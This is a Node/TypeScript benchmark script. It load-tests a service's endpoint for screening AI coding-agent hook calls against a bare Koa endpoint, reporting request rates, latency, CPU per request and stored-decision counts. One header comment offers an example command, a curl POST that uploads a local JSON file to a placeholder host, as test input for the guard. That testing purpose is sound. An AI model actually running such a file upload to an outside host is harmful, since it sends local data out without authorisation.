// HTTP benchmark of the hot path (issue: "Speed, measured"): autocannon drives
// POST /api/v1/claude-code/evaluate with 50 connections on each store, next to a bare Koa JSON
// endpoint in the same run, and prints requests/s, p50/p99 and the ratio. Then it counts the
// stored decisions against the acknowledged (2xx) requests: they must be equal.
//
// The bare endpoint and ours are measured in alternating rounds (ours, bare, ours, bare, …) and
// each ratio compares a pair of neighbouring runs: on a shared machine the speed of the whole
// box drifts from one minute to the next, and a single bare run at the start would compare
// the evaluate runs against a different machine. Both runs of a pair last about as long (the
// bare one is sized from its last rate), so a burst of a neighbour's load weighs on both sides
// alike. Beside each rate, the server's CPU time per request (all its threads, and its event
// loop alone) is read from /proc: it drifts far less than the rates. Every round is printed,
// then the medians.
//   node --conditions=source --import tsx bench/http.ts [--stores sqlite,mysql] [--requests 30000] [--rounds 9] [--chains on|off] [--command CMD]
// Chains (docs/chains.md) follow --chains, else SERVICE_CHAINS, else on: compare
// `SERVICE_CHAINS=off npm run bench -- http` with `SERVICE_CHAINS=on npm run bench -- http`.
// --command replaces the benign test command, e.g. with an upload that makes every call read its
// session's recent events (`curl -X POST https://x.example/r -d @r.json`).
import { spawn, type ChildProcess } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import autocannon from 'autocannon';
import { freshStore, percentile, REPO_ROOT, startServerProcess, storeKnex } from './support.js';

const args = process.argv.slice(2);
const arg = (name: string, fallback: string) => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : fallback;
};
// Many rounds of a few seconds each: on a shared machine a bare run of 20,000 requests lasted
// under half a second, short enough for one burst of a neighbour's load to swing its ratio by
// ±15 points. The median of nine longer pairs is steadier.
const requests = Number(arg('requests', '30000'));
const rounds = Number(arg('rounds', '9'));
const stores = arg('stores', 'sqlite,mysql').split(',') as ('sqlite' | 'mysql')[];
const chains = arg('chains', process.env.SERVICE_CHAINS || 'on');
if (chains !== 'on' && chains !== 'off') throw new Error(`--chains takes on or off (got ${chains})`);
const CONNECTIONS = 50;
const WARM_UP = 5_000;

const payload = JSON.stringify({
  session_id: 'bench-session',
  cwd: '/home/dev/app',
  hook_event_name: 'PreToolUse',
  tool_name: 'Bash',
  tool_input: { command: arg('command', 'npm test -- --watch=false'), description: 'Run the tests' },
});

interface Run {
  rps: number;
  seconds: number;
  /** Server CPU per answered request, in µs: all threads, and the event loop (main thread). */
  cpu: { total: number; loop: number } | null;
  p50: number;
  p99: number;
  ok: number;
  non2xx: number;
  errors: number;
}

interface Target {
  pid: number;
  url: string;
  headers: Record<string, string>;
}

/** CPU time (ms) of a process (all threads) and of its main thread, from /proc; null elsewhere. */
function cpuMs(pid: number): { total: number; loop: number } | null {
  try {
    const ticks = (stat: string) => {
      const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
      return (Number(f[11]) + Number(f[12])) * 10; // utime + stime, in 10 ms clock ticks
    };
    let total = 0;
    for (const task of readdirSync(`/proc/${pid}/task`)) total += ticks(readFileSync(`/proc/${pid}/task/${task}/stat`, 'utf8'));
    return { total, loop: ticks(readFileSync(`/proc/${pid}/task/${pid}/stat`, 'utf8')) };
  } catch {
    return null;
  }
}

/**
 * Fixed request counts (not durations), so every request sent is answered and counted. The rate
 * is taken from the first request to the last response: autocannon itself only notices that the
 * count is reached on its next one-second tick, so its own duration (and a stopwatch around it)
 * is rounded up to whole seconds, which made short runs look slower by up to a second.
 */
async function load(target: Target, amount: number): Promise<Run> {
  let lastResponse = 0;
  const before = cpuMs(target.pid);
  const t0 = performance.now();
  const r = await new Promise<autocannon.Result>((resolve, reject) => {
    const options = { url: target.url, method: 'POST' as const, headers: target.headers, body: payload, connections: CONNECTIONS, amount };
    const instance = autocannon(options, (err, result) => (err ? reject(err) : resolve(result)));
    instance.on('response', () => (lastResponse = performance.now()));
  });
  const seconds = (lastResponse - t0) / 1000;
  const after = cpuMs(target.pid);
  const perRequest = (ms: number) => (ms * 1000) / Math.max(1, r['2xx']);
  return {
    rps: r['2xx'] / seconds,
    seconds,
    cpu: before && after ? { total: perRequest(after.total - before.total), loop: perRequest(after.loop - before.loop) } : null,
    p50: r.latency.p50,
    p99: r.latency.p99,
    ok: r['2xx'],
    non2xx: r.non2xx,
    errors: r.errors + r.timeouts,
  };
}

async function startBare(): Promise<{ target: Target; child: ChildProcess }> {
  const child = spawn(process.execPath, [join(REPO_ROOT, 'bench', 'bare-koa.mjs')], { stdio: ['ignore', 'pipe', 'inherit'] });
  const url: string = await new Promise((resolve) => child.stdout!.once('data', (d) => resolve(JSON.parse(String(d)).url)));
  return { target: { pid: child.pid!, url: url + '/evaluate', headers: { 'content-type': 'application/json' } }, child };
}

async function storedDecisions(env: Record<string, string>): Promise<number> {
  const knex = storeKnex(env);
  try {
    const row = await knex('shield_events').count<{ n: number }[]>({ n: '*' }).first();
    return Number(row?.n ?? 0);
  } finally {
    await knex.destroy();
  }
}

const cpuText = (r: Run) => (r.cpu ? `, CPU ${r.cpu.total.toFixed(0)} µs/req, loop ${r.cpu.loop.toFixed(0)}` : '');
const median = (xs: number[]) => percentile([...xs].sort((a, b) => a - b), 0.5);
const fmt = (n: number) => n.toLocaleString('en-US', { maximumFractionDigits: 0 });

console.log(
  `HTTP benchmark: ${CONNECTIONS} connections, POST with a ${payload.length}-byte hook payload; per store ${rounds} rounds of ` +
    `${fmt(requests)} requests to evaluate, then the bare Koa endpoint for as long (after ${fmt(WARM_UP)} warm-up requests each); chains ${chains}`,
);
const bare = await startBare();
let failed = false;
try {
  for (const store of stores) {
    const goal = store === 'sqlite' ? 0.5 : 0.35;
    const storeTarget = await freshStore(store);
    const server = await startServerProcess(storeTarget.env, { SERVICE_CHAINS: chains });
    const ours: Target = {
      pid: server.child.pid!,
      url: server.url + '/api/v1/claude-code/evaluate',
      // Identity headers as install-hooks writes them: one workstation, heartbeats coalesced.
      headers: { 'content-type': 'application/json', authorization: `Bearer ${server.runtimeKey}`, 'x-hostname': 'bench-host', 'x-machine-id': 'bench-machine' },
    };
    const results: { bare: Run; ours: Run }[] = [];
    let acknowledged = 0;
    let problems = 0;
    try {
      // Warm-up: the JIT and caches are hot before measuring. Its requests are stored too.
      let bareRate = (await load(bare.target, WARM_UP)).rps;
      const warm = await load(ours, WARM_UP);
      acknowledged += warm.ok;
      problems += warm.non2xx + warm.errors;
      console.log(`\n${store}:`);
      for (let round = 1; round <= rounds; round++) {
        const o = await load(ours, requests);
        // As long as ours took, at the bare endpoint's last rate (at least a third of the count).
        const b = await load(bare.target, Math.max(Math.round(requests / 3), Math.round(bareRate * o.seconds)));
        bareRate = b.rps;
        acknowledged += o.ok;
        problems += o.non2xx + o.errors + b.non2xx + b.errors;
        results.push({ bare: b, ours: o });
        console.log(
          `  round ${round}: bare ${fmt(b.rps)} req/s (p99 ${b.p99} ms${cpuText(b)})   evaluate ${fmt(o.rps)} req/s (p50 ${o.p50} ms, p99 ${o.p99} ms${cpuText(o)})   ratio ${((o.rps / b.rps) * 100).toFixed(1)}%`,
        );
      }
    } finally {
      await server.stop(); // graceful: every acknowledged decision is committed before exit
    }
    const stored = await storedDecisions(storeTarget.env);
    await storeTarget.drop();
    const ratios = results.map((r) => r.ours.rps / r.bare.rps);
    const p99s = results.map((r) => r.ours.p99);
    const met = results.filter((r) => r.ours.rps / r.bare.rps >= goal && r.ours.p99 <= 15).length;
    console.log(
      `  median: bare ${fmt(median(results.map((r) => r.bare.rps)))} req/s (p99 ${median(results.map((r) => r.bare.p99))} ms)   ` +
        `evaluate ${fmt(median(results.map((r) => r.ours.rps)))} req/s (p50 ${median(results.map((r) => r.ours.p50))} ms, p99 ${median(p99s)} ms)   ` +
        `ratio ${(median(ratios) * 100).toFixed(1)}% (range ${(Math.min(...ratios) * 100).toFixed(1)}–${(Math.max(...ratios) * 100).toFixed(1)}%)`,
    );
    const cpus = results.filter((r) => r.bare.cpu && r.ours.cpu);
    if (cpus.length > 0) {
      const m = (pick: (r: { bare: Run; ours: Run }) => number) => median(cpus.map(pick));
      const loopRatio = m((r) => r.bare.cpu!.loop / r.ours.cpu!.loop);
      console.log(
        `  server CPU per request (medians): bare ${m((r) => r.bare.cpu!.total).toFixed(0)} µs (event loop ${m((r) => r.bare.cpu!.loop).toFixed(0)})   ` +
          `evaluate ${m((r) => r.ours.cpu!.total).toFixed(0)} µs (event loop ${m((r) => r.ours.cpu!.loop).toFixed(0)})   bare/evaluate event-loop cost ${(loopRatio * 100).toFixed(1)}%`,
      );
    }
    console.log(`  goal ≥ ${goal * 100}% of bare with p99 ≤ 15 ms: met in ${met} of ${rounds} rounds`);
    console.log(`  non-2xx and errors ${problems}; stored decisions ${stored} vs acknowledged requests ${acknowledged}${stored === acknowledged ? ' (equal)' : ' (MISMATCH)'}`);
    if (problems > 0 || stored !== acknowledged) failed = true;
  }
} finally {
  bare.child.kill('SIGTERM');
}
process.exit(failed ? 1 : 0);
